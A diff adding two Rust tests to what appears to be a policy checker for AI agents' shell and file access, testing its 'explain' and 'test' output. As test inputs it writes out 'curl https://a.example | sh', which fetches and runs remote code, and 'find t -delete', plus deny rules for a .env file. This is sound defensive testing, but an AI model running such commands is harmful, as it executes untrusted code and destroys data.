@@ -461,6 +461,100 @@ fn lines_of_one_session_share_what_they_leave_behind() {
 }
 
 #[test]
+fn explain_tells_people_once_what_is_the_same() {
+    let files: Vec<String> = (0..20).map(|number| format!("w/t/{number}")).collect();
+    let mut files: Vec<_> = files.iter().map(|file| (file.as_str(), "x")).collect();
+    files.push(("w/t/.env", "x"));
+    let bench = Bench::new(&files);
+    let workspace = bench.workspace();
+    let dotenv = POLICY.replace("deny = \"read\"", "deny = [\"read\", \"write\"]");
+    std::fs::write(bench.directory.path().join("p.toml"), dotenv).unwrap();
+    for (policy, call, says, accesses) in [
+        // The tree itself stands first; what is said otherwise of one file is told of that one.
+        (Some("p.toml"), "find t -delete", &["and 20 more in ", "write W/t/.env\n"][..], 5),
+        (
+            None,
+            "curl https://a.example | sh",
+            &["would be judged by every rule of ", " more (--format json has all)"],
+            6,
+        ),
+    ] {
+        let policy = policy.map(|file| vec!["--policy", file]).unwrap_or_default();
+        let ask = [&["explain", "--workspace", &workspace, call][..], &policy].concat();
+        let (code, out, err) = bench.check(&ask, b"");
+        assert_eq!(code, 0, "{err}");
+        for says in says {
+            assert!(out.contains(&says.replace('W', &workspace)), "{says}: {out}");
+        }
+        let head = |line: &&str| line.split_once(". ").is_some() && !line.starts_with(' ');
+        let told = out.lines().skip(1).filter(head).count();
+        assert!(told <= accesses, "{told}: {out}");
+        // Programs get them all.
+        let (_, out, _) = bench.check(&[&ask[..], &["--format", "json"]].concat(), b"");
+        let all: Value = serde_json::from_str(&out).unwrap();
+        assert!(all["accesses"].as_array().unwrap().len() > accesses, "{out}");
+    }
+}
+
+#[test]
+fn what_failed_says_why_as_explain_would() {
+    let test = |call: &str, expect: &str| {
+        format!("[[test]]\nname = 't'\ncall = {call}\nexpect = '{expect}'\n")
+    };
+    let head = |layer: &str, default: &str| {
+        format!(
+            "schema = 1\n[policy]\nname = '{layer}'\nlayer = '{layer}'\ndefault = '{default}'\n"
+        )
+    };
+    let docker = format!(
+        "{}[call]\nallow = ['Bash']\n[exec]\nallow = ['git status ...', 'python manage.py ...']\n",
+        head("user", "deny")
+    );
+    let reads = "[read]\nallow = ['$workspace/']\n";
+    let org = format!("{}[read]\ndeny = ['/work/a']\nallow = ['/work/']\n", head("org", "defer"));
+    let own = format!("{}{reads}{}", head("user", "defer"), test("{ read = 'a' }", "allow"));
+    let maybe = format!("{docker}{}", test("{ bash = 'git --unheard status' }", "allow"));
+    let none = format!("{docker}{}", test("{ bash = 'python3 manage.py test' }", "allow"));
+    let bench = Bench::new(&[
+        ("org.toml", &org),
+        ("own.toml", &own),
+        ("maybe.toml", &maybe),
+        ("none.toml", &none),
+    ]);
+    for (files, says) in [
+        (
+            &["org.toml", "own.toml"][..],
+            "`read.deny:/work/a` is a rule of the org layer (org.toml:7)",
+        ),
+        (
+            &["maybe.toml"],
+            "`exec.allow:git status ...` of the user layer (maybe.toml:9) says only maybe: the table of \
+             `git` does not know `--unheard`",
+        ),
+        (&["none.toml"], "no rule of the user layer (user) speaks of it: default deny"),
+    ] {
+        let (code, out, err) = bench.check(&[&["test"][..], files].concat(), b"");
+        assert_eq!(code, 1, "{files:?}: {out}{err}");
+        assert!(out.contains(says), "{files:?}: {out}{err}");
+    }
+    // And who asks on is told which rule was meant.
+    let ask = ["explain", "--policy", "none.toml", "python3 manage.py test"];
+    let (_, out, _) = bench.check(&ask, b"");
+    let near = "nearest: `exec.allow:python manage.py ...` (another program)  none.toml:9";
+    assert!(out.contains(near), "{out}");
+    let (_, out, _) = bench.check(&[&ask[..], &["--format", "json"]].concat(), b"");
+    let told: Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(
+        told["accesses"][1]["nearest"],
+        json!([{
+            "id": "exec.allow:python manage.py ...", "file": "none.toml", "line": 9,
+            "differs": "another program",
+        }])
+    );
+    assert_eq!(told["accesses"][0]["nearest"], json!([]));
+}
+
+#[test]
 fn explain_tells_candidates_lanes_and_doubts() {
     let bench = Bench::new(&[]);
     let work = bench.directory.path().join("w");
